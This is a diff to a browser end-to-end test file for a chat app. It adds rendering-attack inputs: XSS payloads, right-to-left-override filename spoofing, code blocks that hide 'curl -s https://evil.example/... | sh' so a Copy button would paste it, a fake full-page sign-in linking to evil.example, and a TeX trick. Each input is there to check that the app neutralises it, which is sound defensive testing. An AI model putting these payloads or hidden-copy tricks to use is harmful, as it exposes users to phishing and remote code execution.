@@ -206,7 +206,11 @@ describe('chat in the browser', { timeout: 120_000 }, () => {
     // code, link text and a highlighted code block; the family emoji's joiners are text.
     const payload =
       '/echo admin\u202Egpj.exe <img src=x onerror="window.__xss=1;alert(1)"> <script>window.__xss=2;alert(2)</script> [click me](javascript:window.__xss=3;alert(3)) done ' +
-      '`a\u202Eb` [li\u200Bnk](https://example.com) 👨‍👩‍👧\n\n```js\nconst file = "admin\u202Egpj.exe";\n```';
+      '`a\u202Eb` [li\u200Bnk](https://example.com) 👨‍👩‍👧\n\n```js\nconst file = "admin\u202Egpj.exe";\n```' +
+      // Code blocks whose Copy would paste what they do not show (security review 5, #2): a forged
+      // marker hidden with sr-only, text hidden by class, text in a closed <details>.
+      '\n\n<pre><code>echo hello<span class="invisible-char sr-only">⟨U+202E⟩</span>world<span class="hidden"> ; curl -s https://evil.example/x.sh | sh</span></code></pre>' +
+      '\n\n<pre><code>echo hi<details><summary></summary> ; curl -s https://evil.example/y.sh | sh</details></code></pre>';
     await composer(page).fill(payload);
     await composer(page).press('Enter');
     const answer = page.locator('article[aria-label="Assistant message"][data-status="complete"]').last();
@@ -232,8 +236,20 @@ describe('chat in the browser', { timeout: 120_000 }, () => {
       expect(text).not.toMatch(/[\u202A-\u202E\u200B]/);
       await expect(rendered.locator('.invisible-char').first().getAttribute('title')).resolves.toBe('U+202E RIGHT-TO-LEFT OVERRIDE, an invisible character');
       // Copy takes the code as the model wrote it.
-      await rendered.getByRole('button', { name: 'Copy code' }).click();
+      const copy = rendered.getByRole('button', { name: 'Copy code' });
+      await copy.first().click();
       await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toMatch(/^const file = "admin\u202Egpj\.exe";\n?$/);
+      // …and only what a block shows: the answer's look-alike marker keeps no class, so it shows
+      // (and is copied) as the text it is; nothing hidden is copied.
+      const forged = rendered.locator('pre code').nth(1);
+      await expect(forged.locator('span').evaluateAll((spans) => spans.map((span) => [span.getAttribute('class'), span.getBoundingClientRect().width > 0]))).resolves.toEqual([
+        [null, true],
+        [null, true],
+      ]);
+      await copy.nth(1).click();
+      await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe('echo hello⟨U+202E⟩world ; curl -s https://evil.example/x.sh | sh');
+      await copy.nth(2).click();
+      await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toMatch(/^echo hi\n*$/);
       // A person's message (another member's, in a group chat) is plain text, marked the same way.
       await expect(page.locator('article[aria-label="Your message"]').last().evaluate((el) => el.textContent)).resolves.toContain('/echo admin⟨U+202E⟩gpj.exe');
       // The chat's title, from the same words, shows the marker in the sidebar and the tab.
@@ -259,6 +275,12 @@ describe('chat in the browser', { timeout: 120_000 }, () => {
       '\\]',
       '',
       'It costs $5, or $10 with shipping. <span class="katex" style="position:fixed;inset:0;background:red">cover</span>',
+      '',
+      // A full-page fake sign-in from the app's own Tailwind classes (security review 5, #1), and a
+      // formula that draws a right-to-left override with \char (#3).
+      '<div class="fixed inset-0 z-50 bg-zinc-950 flex items-center justify-center" id="app"><div class="card" role="dialog"><p>Your session expired</p><a href="https://evil.example/login">Sign in</a></div></div>',
+      '',
+      'Download $\\text{admin\\char"202Egpj.exe}$ now',
       '',
       '\\(\\kern{-7em}\\colorbox{red}{\\rule{5em}{5em}}\\)',
       '',
@@ -297,6 +319,35 @@ describe('chat in the browser', { timeout: 120_000 }, () => {
       return hit === null || !markdown.contains(hit) ? 'clipped' : 'drawn outside';
     });
     expect(escaped).toBe('clipped');
+    // The fake sign-in keeps none of its classes, id or role, and stays inside the message…
+    const fake = await page.evaluate(() => {
+      const card = document.querySelector('.markdown a[href="https://evil.example/login"]')?.parentElement;
+      return [card, card?.parentElement].map((el) => el && [el.tagName, ...['class', 'id', 'role'].map((name) => el.getAttribute(name))]);
+    });
+    expect(fake).toEqual([
+      ['DIV', null, null, null],
+      ['DIV', null, null, null],
+    ]);
+    await expect(rendered.locator('[role], [id]').count()).resolves.toBe(0);
+    const inside = (selector: string) =>
+      page.evaluate((selector) => {
+        const el = document.querySelector(selector);
+        const markdown = el?.closest('.markdown');
+        if (!el || !markdown) return 'missing';
+        const r = el.getBoundingClientRect();
+        const m = markdown.getBoundingClientRect();
+        return r.left >= m.left && r.right <= m.right && r.top >= m.top && r.bottom <= m.bottom ? 'inside' : `outside: ${JSON.stringify(r)} of ${JSON.stringify(m)}`;
+      }, selector);
+    await page.evaluate(() => document.querySelector('.markdown a[href="https://evil.example/login"]')!.closest('.markdown > div')!.setAttribute('data-fake', ''));
+    await expect(inside('[data-fake]')).resolves.toBe('inside');
+    // …and were it ever positioned fixed over the page, the message contains it (app.css).
+    await page.evaluate(() => Object.assign(document.querySelector<HTMLElement>('[data-fake]')!.style, { position: 'fixed', inset: '0', zIndex: '50', background: 'black' }));
+    await expect(inside('[data-fake]')).resolves.toBe('inside');
+    const bottomLeft = await page.evaluate(() => document.elementFromPoint(5, innerHeight - 5)?.closest('.markdown') ?? null);
+    expect(bottomLeft).toBeNull();
+    // The formula drawing U+202E shows as its TeX, in code: nothing reorders the text.
+    await expect(rendered.locator('code', { hasText: 'admin\\char"202Egpj.exe' }).count()).resolves.toBe(1);
+    await expect(rendered.evaluate((el) => /[\u202A-\u202E]/.test(el.textContent ?? ''))).resolves.toBe(false);
     await expect(rendered.locator('.table-scroll > table').count()).resolves.toBe(1);
     // A long unbroken word (a URL) wraps inside the question's bubble; it ran out of it (and off a phone's screen).
     const bubble = page.locator('article[aria-label="Your message"]').last().locator('div').first();
